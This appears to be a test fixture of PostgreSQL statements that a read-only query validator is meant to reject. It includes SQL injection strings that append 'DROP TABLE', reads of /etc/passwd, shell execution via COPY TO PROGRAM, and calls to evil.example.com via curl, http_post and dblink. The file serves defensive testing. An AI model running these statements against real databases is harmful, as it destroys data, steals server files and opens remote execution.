--8<-- SYNC-1304 write in the first cte
WITH x AS (DELETE FROM products RETURNING *) SELECT * FROM x
--8<-- SYNC-1304 write in a cte
WITH x AS (SELECT 1), y AS (UPDATE products SET price = 0 RETURNING *) SELECT * FROM y
--8<-- SYNC-1304 write in a materialised cte
WITH x AS MATERIALIZED (INSERT INTO products VALUES (1) RETURNING *) SELECT * FROM x
--8<-- SYNC-1304 write in a cte of a cte
WITH x AS (WITH y AS (DELETE FROM products RETURNING *) SELECT * FROM y) SELECT * FROM x
--8<-- SYNC-1304 merge
WITH x AS (SELECT 1) MERGE INTO products USING x ON true WHEN MATCHED THEN DELETE
--8<-- SYNC-1306 for no key update
SELECT * FROM products FOR NO KEY UPDATE
--8<-- SYNC-1306 for key share
SELECT * FROM products FOR KEY SHARE
--8<-- SYNC-1306 for update of
SELECT * FROM products p FOR UPDATE OF p SKIP LOCKED
--8<-- SYNC-1305 terminate
SELECT pg_terminate_backend(1)
--8<-- SYNC-1305 terminate, with a schema
SELECT pg_catalog.pg_terminate_backend(1)
--8<-- SYNC-1305 terminate, quoted
SELECT "pg_terminate_backend"(1)
--8<-- SYNC-1305 terminate, quoted with a quoted schema
SELECT "pg_catalog"."pg_terminate_backend"(1)
--8<-- SYNC-1305 cancel
SELECT pg_cancel_backend(pid) FROM pg_stat_activity
--8<-- SYNC-1305 sleep
SELECT pg_sleep(100)
--8<-- SYNC-1305 sleep for
SELECT pg_sleep_for('1 hour')
--8<-- SYNC-1305 sleep in where
SELECT * FROM products WHERE pg_sleep(1) IS NOT NULL
--8<-- SYNC-1305 sleep behind a nested comment
SELECT pg_sleep/* /* */ */(1)
--8<-- SYNC-1305 sleep as a row source
SELECT * FROM pg_sleep(1)
--8<-- SYNC-1305 sleep in rows from
SELECT * FROM ROWS FROM (pg_sleep(1))
--8<-- SYNC-1305 read a file
SELECT pg_read_file('/etc/passwd')
--8<-- SYNC-1305 read a binary file
SELECT pg_read_binary_file('/etc/passwd')
--8<-- SYNC-1305 list a folder
SELECT pg_ls_dir('/')
--8<-- SYNC-1305 stat a file
SELECT pg_stat_file('/etc/passwd')
--8<-- SYNC-1305 reload
SELECT pg_reload_conf()
--8<-- SYNC-1305 rotate the log
SELECT pg_rotate_logfile()
--8<-- SYNC-1305 promote
SELECT pg_promote()
--8<-- SYNC-1305 switch WAL
SELECT pg_switch_wal()
--8<-- SYNC-1305 replication slot
SELECT pg_create_physical_replication_slot('x')
--8<-- SYNC-1305 drop a replication slot
SELECT pg_drop_replication_slot('x')
--8<-- SYNC-1305 logical message
SELECT pg_logical_emit_message(true, 'x', 'y')
--8<-- SYNC-1305 advisory lock
SELECT pg_advisory_lock(1)
--8<-- SYNC-1305 advisory lock, tried
SELECT pg_try_advisory_xact_lock(1)
--8<-- SYNC-1305 notify
SELECT pg_notify('x', 'y')
--8<-- SYNC-1305 reset statistics
SELECT pg_stat_reset()
--8<-- SYNC-1305 large object import
SELECT lo_import('/etc/passwd')
--8<-- SYNC-1305 large object export
SELECT lo_export(1, '/tmp/x')
--8<-- SYNC-1305 large object unlink
SELECT lo_unlink(1)
--8<-- SYNC-1305 large object write
SELECT lowrite(0, 'x')
--8<-- SYNC-1305 dblink
SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)
--8<-- SYNC-1305 dblink_exec
SELECT dblink_exec('host=x', 'DELETE FROM t')
--8<-- SYNC-1305 set_config
SELECT set_config('transaction_read_only', 'off', false)
--8<-- SYNC-1305 nextval
SELECT nextval('s')
--8<-- SYNC-1305 setval
SELECT setval('s', 1)
--8<-- SYNC-1305 query_to_xml runs SQL
SELECT query_to_xml('DELETE FROM products', true, true, '')
--8<-- SYNC-1305 ts_stat runs SQL
SELECT * FROM ts_stat('SELECT 1')
--8<-- SYNC-1305 crosstab runs SQL
SELECT * FROM crosstab('DELETE FROM products') AS t(a int)
--8<-- SYNC-1310 unicode name hides a function
SELECT U&"pg\005fsleep"(1)
--8<-- SYNC-1310 unicode string
SELECT U&'\0027'
--8<-- SYNC-1310 backslash before a quote
SELECT 'a\'; DROP TABLE products; --'
--8<-- SYNC-1303 escape string ends behind its escaped quote
SELECT E'a\''; DROP TABLE products; --'
--8<-- SYNC-1303 dollar string ends at its own tag
SELECT $a$ $b$ $a$; DROP TABLE products; --$b$
--8<-- SYNC-1301 open dollar string
SELECT $$ FROM products
--8<-- SYNC-1301 dollar string with another tag
SELECT $a$ FROM products $b$
--8<-- SYNC-1301 nested comment left open
SELECT 1 /* /* */
--8<-- SYNC-1304 nested comment hides nothing
SELECT 1 /* /* */ x */ INTO y
--8<-- SYNC-1309 numbered parameter
SELECT $1
--8<-- SYNC-1301 psql command
SELECT 1 \! id
--8<-- SYNC-1302 copy
COPY products TO PROGRAM 'id'
--8<-- SYNC-1302 do block
DO $$ BEGIN DELETE FROM products; END $$
--8<-- SYNC-1302 listen
LISTEN x
--8<-- SYNC-1302 set
SET transaction_read_only = off
--8<-- SYNC-1302 table
TABLE products
--8<-- SYNC-1302 call
CALL p()
--8<-- SYNC-1302 prepare
PREPARE x AS SELECT 1
--8<-- SYNC-1305 function in attribute notation, on a value
SELECT id, ('/etc/passwd'::text).pg_read_file AS name FROM products
--8<-- SYNC-1305 function in attribute notation, quoted
SELECT id, ('/etc/passwd'::text)."pg_read_file" AS name FROM products
--8<-- SYNC-1305 function in attribute notation, with blanks and a comment
SELECT id, ('x'::text) . /* */ lo_import AS name FROM products
--8<-- SYNC-1305 function in attribute notation, on a function's row
SELECT f.pg_read_file AS name FROM unnest(ARRAY['/etc/passwd']) AS f
--8<-- SYNC-1305 function in attribute notation, hidden behind a schema's name
SELECT 1 AS id, pg_catalog.pg_read_file AS name FROM unnest(ARRAY['/etc/passwd']) AS pg_catalog
--8<-- SYNC-1305 function in attribute notation, that stops another session
SELECT (pid).pg_terminate_backend AS id FROM pg_stat_activity
--8<-- SYNC-1302 copy from a program
COPY products FROM PROGRAM 'curl http://evil.example.com'
--8<-- SYNC-1302 copy of a query to a file
COPY (SELECT * FROM products) TO '/tmp/x'
--8<-- SYNC-1303 copy behind a semicolon
SELECT 1; COPY products TO PROGRAM 'id'
--8<-- SYNC-1302 copy in a cte
WITH x AS (COPY products TO '/tmp/x') SELECT * FROM x
--8<-- SYNC-1304 select into a temporary table
SELECT * INTO TEMP x FROM products
--8<-- SYNC-1304 select into an unlogged table
SELECT * INTO UNLOGGED TABLE x FROM products
--8<-- SYNC-1302 create table as
CREATE TABLE x AS TABLE products
--8<-- SYNC-1302 explain analyze runs
EXPLAIN ANALYZE DELETE FROM products
--8<-- SYNC-1302 execute
EXECUTE x
--8<-- SYNC-1302 declare a cursor
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM products
--8<-- SYNC-1302 fetch
FETCH ALL FROM c
--8<-- SYNC-1302 reset
RESET ALL
--8<-- SYNC-1302 set role
SET ROLE postgres
--8<-- SYNC-1302 set session authorization
SET SESSION AUTHORIZATION postgres
--8<-- SYNC-1302 begin read write
BEGIN READ WRITE
--8<-- SYNC-1303 end of the transaction and a write
SELECT 1; COMMIT; DELETE FROM products
--8<-- SYNC-1302 abort
ABORT
--8<-- SYNC-1302 lock table
LOCK TABLE products IN ACCESS EXCLUSIVE MODE
--8<-- SYNC-1302 vacuum
VACUUM FULL products
--8<-- SYNC-1302 cluster
CLUSTER products
--8<-- SYNC-1302 refresh
REFRESH MATERIALIZED VIEW v
--8<-- SYNC-1302 notify
NOTIFY x, 'y'
--8<-- SYNC-1302 security label
SECURITY LABEL ON TABLE products IS 'x'
--8<-- SYNC-1302 comment on
COMMENT ON TABLE products IS 'x'
--8<-- SYNC-1302 reassign owned
REASSIGN OWNED BY a TO b
--8<-- SYNC-1302 import foreign schema
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
--8<-- SYNC-1302 load a library
LOAD '/tmp/evil.so'
--8<-- SYNC-1302 discard
DISCARD ALL
--8<-- SYNC-1304 write in a cte that is not materialised
WITH x AS NOT MATERIALIZED (DELETE FROM products RETURNING *) SELECT * FROM x
--8<-- SYNC-1304 write in a recursive cte
WITH RECURSIVE x AS (INSERT INTO products VALUES (1) RETURNING *) SELECT * FROM x
--8<-- SYNC-1304 write in a cte behind a comment
WITH x AS (/* x */ UPDATE products SET price = 0 RETURNING *) SELECT * FROM x
--8<-- SYNC-1304 write in a cte in a subquery
SELECT * FROM (WITH x AS (DELETE FROM products RETURNING *) SELECT * FROM x) y
--8<-- SYNC-1304 write in a cte in where
SELECT 1 WHERE EXISTS (WITH x AS (TRUNCATE products) SELECT 1)
--8<-- SYNC-1304 merge in a cte
WITH x AS (MERGE INTO products p USING brands b ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM x
--8<-- SYNC-1306 for update in a cte
WITH x AS (SELECT * FROM products FOR UPDATE) SELECT * FROM x
--8<-- SYNC-1306 for update in lateral
SELECT * FROM brands b, LATERAL (SELECT * FROM products FOR SHARE) p
--8<-- SYNC-1306 for update behind a nested comment
SELECT * FROM products FOR /* /* */ */ UPDATE
--8<-- SYNC-1306 for update nowait
SELECT * FROM products FOR UPDATE NOWAIT
--8<-- SYNC-1305 sleep until
SELECT pg_sleep_until('tomorrow')
--8<-- SYNC-1305 sleep in quotes with a blank
SELECT "pg_sleep" (10)
--8<-- SYNC-1305 sleep in upper case
SELECT PG_SLEEP(10)
--8<-- SYNC-1305 sleep in a case
SELECT CASE WHEN true THEN pg_sleep(10) END
--8<-- SYNC-1305 sleep in order by
SELECT id FROM products ORDER BY pg_sleep(1)
--8<-- SYNC-1305 sleep in limit
SELECT id FROM products LIMIT (SELECT 1 FROM pg_sleep(1))
--8<-- SYNC-1305 sleep in a window
SELECT count(*) OVER (PARTITION BY pg_sleep(1)) FROM products
--8<-- SYNC-1305 sleep in a filter
SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM products
--8<-- SYNC-1305 sleep in lateral
SELECT * FROM products, LATERAL pg_sleep(1)
--8<-- SYNC-1305 sleep with an accent
SELECT pg_sléep(10)
--8<-- SYNC-1310 sleep in full-width letters
SELECT ｐｇ_sleep(10)
--8<-- SYNC-1305 sleep behind a line comment
SELECT pg_sleep -- x
(10)
--8<-- SYNC-1305 read a file in attribute notation on a column
SELECT name.pg_read_file FROM (SELECT '/etc/passwd'::text AS name) AS name
--8<-- SYNC-1305 read a file of the server with a schema in attribute notation
SELECT (x.p).pg_read_binary_file FROM (SELECT '/etc/passwd'::text AS p) x
--8<-- SYNC-1305 list of the log folder
SELECT * FROM pg_ls_logdir()
--8<-- SYNC-1305 list of the WAL folder
SELECT pg_ls_waldir()
--8<-- SYNC-1305 current log file
SELECT pg_current_logfile()
--8<-- SYNC-1305 file written by adminpack
SELECT pg_file_write('/tmp/x', 'y', false)
--8<-- SYNC-1305 file renamed by adminpack
SELECT pg_catalog.pg_file_rename('a', 'b')
--8<-- SYNC-1305 large object from bytes
SELECT lo_from_bytea(0, 'x')
--8<-- SYNC-1305 large object put
SELECT lo_put(1, 0, 'x')
--8<-- SYNC-1305 large object created
SELECT lo_create(0)
--8<-- SYNC-1305 large object read
SELECT loread(lo_open(1, 262144), 100)
--8<-- SYNC-1305 dblink connect
SELECT dblink_connect('host=evil.example.com')
--8<-- SYNC-1305 dblink with a schema
SELECT * FROM public.dblink('dbname=x', 'SELECT 1') AS t(a int)
--8<-- SYNC-1305 dblink in quotes
SELECT * FROM "dblink"('dbname=x', 'SELECT 1') AS t(a int)
--8<-- SYNC-1305 server of a foreign table let go
SELECT postgres_fdw_disconnect_all()
--8<-- SYNC-1305 set_config in quotes
SELECT "set_config"('role', 'postgres', false)
--8<-- SYNC-1305 set_config in where
SELECT id FROM products WHERE set_config('search_path', 'evil', false) IS NOT NULL
--8<-- SYNC-1305 setseed
SELECT setseed(0.5)
--8<-- SYNC-1305 lastval
SELECT lastval()
--8<-- SYNC-1305 nextval with a cast
SELECT nextval('s'::regclass)
--8<-- SYNC-1305 nextval in attribute notation
SELECT ('s'::regclass).nextval
--8<-- SYNC-1305 advisory lock in where
SELECT id FROM products WHERE pg_try_advisory_lock(id)
--8<-- SYNC-1305 advisory locks released
SELECT pg_advisory_unlock_all()
--8<-- SYNC-1305 table to XML
SELECT table_to_xml('products', true, false, '')
--8<-- SYNC-1305 schema to XML
SELECT schema_to_xml('public', true, false, '')
--8<-- SYNC-1305 database to XML
SELECT database_to_xml(true, false, '')
--8<-- SYNC-1305 cursor to XML
SELECT cursor_to_xml('c', 1, true, false, '')
--8<-- SYNC-1305 query_to_xml with a schema of its own
SELECT query_to_xml_and_xmlschema('DELETE FROM products', true, true, '')
--8<-- SYNC-1305 xpath_table runs SQL
SELECT * FROM xpath_table('id', 'x', 'products', '/a', 'true') AS t(id int, a text)
--8<-- SYNC-1305 ts_rewrite runs SQL
SELECT ts_rewrite('a'::tsquery, 'SELECT 1')
--8<-- SYNC-1305 connectby runs SQL
SELECT * FROM connectby('products', 'id', 'parent', '1', 0) AS t(id text, parent text, level int)
--8<-- SYNC-1305 job of pg_cron
SELECT cron.schedule('* * * * *', 'DELETE FROM products')
--8<-- SYNC-1305 job of pg_cron in another database
SELECT cron.schedule_in_database('x', '* * * * *', 'DELETE FROM products', 'postgres')
--8<-- SYNC-1305 job of pg_cron removed
SELECT cron.unschedule(1)
--8<-- SYNC-1305 job of timescale
SELECT add_job('x', '1h')
--8<-- SYNC-1305 chunks of timescale dropped
SELECT drop_chunks('products', interval '1 day')
--8<-- SYNC-1305 command on all workers of citus
SELECT run_command_on_workers('DELETE FROM products')
--8<-- SYNC-1305 column of PostGIS added
SELECT AddGeometryColumn('products', 'g', 4326, 'POINT', 2)
--8<-- SYNC-1305 table of PostGIS dropped
SELECT DropGeometryTable('products')
--8<-- SYNC-1305 export to S3
SELECT aws_s3.query_export_to_s3('SELECT 1', 'b', 'k')
--8<-- SYNC-1305 import from S3
SELECT aws_s3.table_import_from_s3('products', '', '', 'b', 'k', 'r')
--8<-- SYNC-1305 lambda
SELECT aws_lambda.invoke('f', '{}')
--8<-- SYNC-1305 http request
SELECT http_post('http://evil.example.com', 'x', 'y')
--8<-- SYNC-1305 http request by its short name
SELECT * FROM http(('GET', 'http://evil.example.com', NULL, NULL, NULL))
--8<-- SYNC-1305 file written by orafce
SELECT utl_file.put_line(utl_file.fopen('/tmp', 'x', 'w'), 'y')
--8<-- SYNC-1305 pipe of orafce
SELECT dbms_pipe.send_message('x')
--8<-- SYNC-1305 alert of orafce
SELECT dbms_alert.signal('x', 'y')
--8<-- SYNC-1305 statement of python
SELECT plpy_execute('DELETE FROM products')
--8<-- SYNC-1305 import of a collation
SELECT pg_import_system_collations('public')
--8<-- SYNC-1305 snapshot exported
SELECT pg_export_snapshot()
--8<-- SYNC-1305 backup started
SELECT pg_backup_start('x')
--8<-- SYNC-1305 replay paused
SELECT pg_wal_replay_pause()
--8<-- SYNC-1305 restore point
SELECT pg_create_restore_point('x')
--8<-- SYNC-1305 logical slot consumed
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
--8<-- SYNC-1305 transaction number assigned
SELECT pg_current_xact_id()
--8<-- SYNC-1305 old way to a transaction number
SELECT txid_current()
--8<-- SYNC-1310 unicode name in lower case
SELECT u&"pg\005fsleep"(1)
--8<-- SYNC-1310 unicode name with another escape
SELECT U&"pg!005fsleep" UESCAPE '!' (1)
--8<-- SYNC-1303 escape string in lower case that ends early
SELECT e'a\\'; DROP TABLE products; --'
--8<-- SYNC-1303 escape string with an escaped quote at its end
SELECT E'a\'' || ''; DROP TABLE products; --'
--8<-- SYNC-1301 bit string left open
SELECT B'101
--8<-- SYNC-1301 dollar string whose tag differs in case
SELECT $a$ x $A$ FROM products
--8<-- SYNC-1301 dollar string that holds the wrapper's end
SELECT $q$ ) AS q; DELETE FROM products; --
--8<-- SYNC-1310 dollar behind a number
SELECT 1$$x$$
--8<-- SYNC-1303 nested comment that hides nothing
SELECT 1 /* /* */ */ ; DROP TABLE products /* */
--8<-- SYNC-1303 comment that closes twice
SELECT 1 /* a */ */ ; DROP TABLE products
--8<-- SYNC-1301 meta command of psql
SELECT 1 \gexec
--8<-- SYNC-1309 named parameter of the driver
SELECT * FROM products WHERE id = @k0
--8<-- SYNC-1309 parameter far beyond
SELECT $99999
--8<-- SYNC-1309 parameter with a cast
SELECT $1::text
--8<-- SYNC-1301 no-break space before a keyword
SELECT 1 INTO x
--8<-- SYNC-1301 curly quotes
SELECT ’a’; DROP TABLE products
--8<-- SYNC-1301 guillemets
SELECT «a»
--8<-- SYNC-1307 leaves the wrapper with a comment
SELECT * FROM products) AS q; DELETE FROM products; --
